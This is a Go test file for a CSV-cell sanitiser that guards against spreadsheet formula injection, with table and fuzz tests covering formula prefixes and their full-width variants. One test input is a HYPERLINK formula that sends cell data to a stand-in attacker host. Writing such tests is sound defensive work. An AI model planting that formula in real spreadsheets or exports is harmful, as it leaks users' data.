package csvsafe_test

import (
	"strings"
	"testing"

	"github.com/gatehouse-io/gatehouse/internal/csvsafe"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "acme": "acme", "1": "1", "é": "é", "a=1": "a=1", "'=1": "'=1", "\xff=1": "\xff=1", "\xef": "\xef",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠a": "'＠a",
		`=HYPERLINK("https://evil.example/?"&A1)`: `'=HYPERLINK("https://evil.example/?"&A1)`,
	} {
		if got := csvsafe.Cell(in); got != want {
			t.Errorf("Cell(%q) is %q, want %q", in, got, want)
		}
	}
}

// Whatever comes in, what comes out begins no formula, and holds the text as it was.
func FuzzCell(f *testing.F) {
	for _, text := range []string{"", "acme", "=1+1", "＝1", "\t=1", "\xef\xbc", "'"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := csvsafe.Cell(text)
		for _, begin := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
			if strings.HasPrefix(got, begin) {
				t.Errorf("%q begins a formula", got)
			}
		}
		if got != text && got != "'"+text {
			t.Errorf("%q became %q", text, got)
		}
	})
}
